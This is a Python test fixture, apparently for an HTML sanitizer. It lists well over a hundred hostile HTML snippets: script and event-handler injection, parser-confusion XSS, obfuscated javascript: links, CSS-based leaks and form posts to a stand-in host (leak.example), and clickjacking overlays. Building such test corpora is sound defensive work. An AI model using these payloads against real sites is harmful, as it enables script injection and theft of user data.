"""HTML that means no good, written for these tests. RUN stands for a script, LEAK for an address outside."""

RUN = "parent.ran.push(document.title)"
LEAK = "https://leak.example/p"

_WRITTEN = (
    r"""
<script>RUN</script>
<SCRIPT src=LEAK></SCRIPT>
<script src="LEAK"><!--
<scr<script>ipt>RUN</scr</script>ipt>
<script/x>RUN</script>
<script>RUN
<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>
<img src=x onerror=RUN>
<img src=x onerror="RUN" onload="RUN">
<img/src=x/onerror=RUN>
<img src="x`onerror=RUN">
<img """
    + '"'
    + r"""><script>RUN</script>">
<img src=LEAK>
<img src=//leak.example/p>
<img src="\\leak.example\p">
<img srcset="LEAK 1x, LEAK 2x" src=cid:none>
<img src="cid:a" lowsrc="LEAK" dynsrc="LEAK" longdesc="LEAK">
<image src=LEAK>
<picture><source srcset=LEAK><img src=cid:x></picture>
<input type=image src=LEAK>
<input autofocus onfocus=RUN>
<body onload=RUN background=LEAK>
<body bgcolor=red onpageshow=RUN>
<table background=LEAK><tr><td background=LEAK>x</table>
<div background="LEAK" style="color:red">x</div>
<p style="background:url(LEAK)">x</p>
<p style="background-image:url('LEAK')">x</p>
<p style="background: \75rl(LEAK)">x</p>
<p style="background:u/**/rl(LEAK)">x</p>
<p style="background:url&#40;LEAK&#41;">x</p>
<p style='background:image-set("LEAK" 1x)'>x</p>
<p style='background:-webkit-image-set(url(LEAK) 1x)'>x</p>
<p style='background:cross-fade(url(LEAK), url(LEAK))'>x</p>
<p style="list-style:url(LEAK)">x</p>
<ul style="list-style-image:url(LEAK)"><li>x</ul>
<p style="cursor:url(LEAK),auto">x</p>
<p style="content:url(LEAK)">x</p>
<p style="border-image:url(LEAK) 30">x</p>
<p style="filter:url(LEAK#a)">x</p>
<p style="mask:url(LEAK)">x</p>
<p style="clip-path:url(LEAK#a)">x</p>
<p style="font-family:'a';src:url(LEAK)">x</p>
<p style="--a:url(LEAK);background:var(--a)">x</p>
<p style="width:expression(RUN)">x</p>
<p style="behavior:url(LEAK)">x</p>
<p style="-moz-binding:url(LEAK#a)">x</p>
<p style="color:red;}*{background:url(LEAK)">x</p>
<p style="color:red</style><style>@import 'LEAK';</style>">x</p>
<p style="position:fixed;inset:0;background:#fff">over everything</p>
<p style="position:absolute;top:0;left:0;z-index:999999">over everything</p>
<style>@import url(LEAK);</style>
<style>@import 'LEAK';</style>
<style>body{background:url(LEAK)}</style>
<style>@font-face{font-family:a;src:url(LEAK)} p{font-family:a}</style><p>x</p>
<style>input[value^=a]{background:url(LEAK)}</style><input value=a>
<style><!--</style><img src=x onerror=RUN>--></style>
<style></style><script>RUN</script>
<link rel=stylesheet href=LEAK>
<link rel=prefetch href=LEAK>
<link rel=preload as=image href=LEAK>
<link rel=icon href=LEAK>
<link rel="dns-prefetch" href="//leak.example">
<meta http-equiv=refresh content="0;url=LEAK">
<meta http-equiv="refresh" content="0;url=javascript:RUN">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<meta http-equiv="Set-Cookie" content="a=b">
<base href="LEAK/"><img src=p>
<base target=_top><a href=LEAK>x</a>
<iframe src=LEAK></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe src="javascript:RUN"></iframe>
<iframe src="data:text/html,<script>parent.RUN</script>"></iframe>
<frameset><frame src=LEAK></frameset>
<object data=LEAK></object>
<object data="data:text/html,<script>RUN</script>"></object>
<object type=text/html data="javascript:RUN"></object>
<embed src=LEAK>
<embed src="javascript:RUN">
<applet code=x archive=LEAK></applet>
<portal src=LEAK></portal>
<video src=LEAK autoplay></video>
<video poster=LEAK></video>
<video><source onerror=RUN src=x></video>
<audio src=LEAK autoplay onerror=RUN></audio>
<track src=LEAK>
<svg onload=RUN></svg>
<svg><script>RUN</script></svg>
<svg><script href="LEAK"></script></svg>
<svg><image href=LEAK></svg>
<svg><use href="LEAK#a"></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><foreignObject><iframe src=LEAK></iframe></foreignObject></svg>
<svg><style>@import 'LEAK';</style></svg>
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<svg><desc><table><a title="</desc><img src=x onerror=RUN>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>
<math href="javascript:RUN">x</math>
<math><maction actiontype="statusline#LEAK" xlink:href="javascript:RUN">x</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
<form action=LEAK><button autofocus onfocus=RUN>x</button></form>
<form id=a></form><button form=a formaction="javascript:RUN">x</button>
<form action=LEAK><input name=password type=password></form>
<isindex action=LEAK type=image src=LEAK>
<a href="javascript:RUN">x</a>
<a href="java&#10;script:RUN">x</a>
<a href=" &#14; javascript:RUN">x</a>
<a href="JaVaScRiPt&colon;RUN">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5SVU48L3NjcmlwdD4=">x</a>
<a href="vbscript:RUN">x</a>
<a href="blob:LEAK">x</a>
<a href="https://shop.example/" ping="LEAK" onclick=RUN>x</a>
<a href="https://shop.example/" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>
<area href="javascript:RUN" shape=default>
<map name=a><area href=LEAK></map><img usemap=#a src=cid:x>
<marquee onstart=RUN>x</marquee>
<details open ontoggle=RUN>x</details>
<dialog open oncancel=RUN>x</dialog>
<select autofocus onfocus=RUN></select>
<textarea autofocus onfocus=RUN></textarea>
<textarea><p title="</textarea><img src=x onerror=RUN>"></textarea>
<title><p title="</title><img src=x onerror=RUN>"></title>
<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>
<noembed><p title="</noembed><img src=x onerror=RUN>"></noembed>
<noframes><p title="</noframes><img src=x onerror=RUN>"></noframes>
<plaintext><img src=x onerror=RUN>
<template><img src=x onerror=RUN></template>
<template shadowrootmode=open><img src=LEAK></template>
<slot onslotchange=RUN><p>x</p></slot>
<p onanimationstart=RUN style="animation:a">x</p>
<p ontransitionend=RUN contenteditable autofocus onfocus=RUN tabindex=1>x</p>
<p id=ran name=title class=x data-x=y>clobbering</p>
<img name=ran id=parent src=cid:x><a id=top name=location>x</a>
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<!--><img src=x onerror=RUN>-->
<!--!><img src=x onerror=RUN>--!>
<![CDATA[<img src=x onerror=RUN>]]>
<?xml-stylesheet href="LEAK"?><img src=x onerror=RUN>
<!DOCTYPE html [<!ENTITY a SYSTEM "LEAK">]>&a;
<%<img src=x onerror=RUN>%>
</p><img src=x onerror=RUN></p
<a title="a&quot; onmouseover=&quot;RUN">x</a>
<a title='"><img src=x onerror=RUN>'>x</a>
<p title="`><img src=x onerror=RUN>`">x</p>
<x onclick=RUN tabindex=0 autofocus onfocus=RUN>x</x>
<div style="display:none" style="background:url(LEAK)">x</div>
<font face="a" color="url(LEAK)" style="color:red;background:url(LEAK)">x</font>
<blockquote cite="LEAK"><q cite="LEAK">x</q></blockquote>
<del cite=LEAK datetime=now>x</del>
<html manifest=LEAK><p>x</p></html>
<img src="data:image/svg+xml,<svg onload=RUN xmlns='http://www.w3.org/2000/svg'/>">
<img src="data:text/html,<script>RUN</script>">
<img crossorigin src="cid:x" loading=eager fetchpriority=high importance=high onload=RUN>
<img src="cid:x' onerror='RUN">
<img src="cid:x&quot; onerror=&quot;RUN">
<p dir="rtl" lang="en&quot; onclick=&quot;RUN">x</p>
<td style="width:calc(1px);background:url(LEAK">x</td>
<p style="color:rgb(0,0,0);background:/*)*/url(LEAK)">x</p>
<table><td><style></td><img src=x onerror=RUN></style></table>
<select><style></select><img src=x onerror=RUN></style>
<p>&lt;script&gt;RUN&lt;/script&gt;</p>
"""
)

ATTACKS: list[str] = [
    line.replace("RUN", RUN).replace("LEAK", LEAK) for line in _WRITTEN.splitlines() if line
]
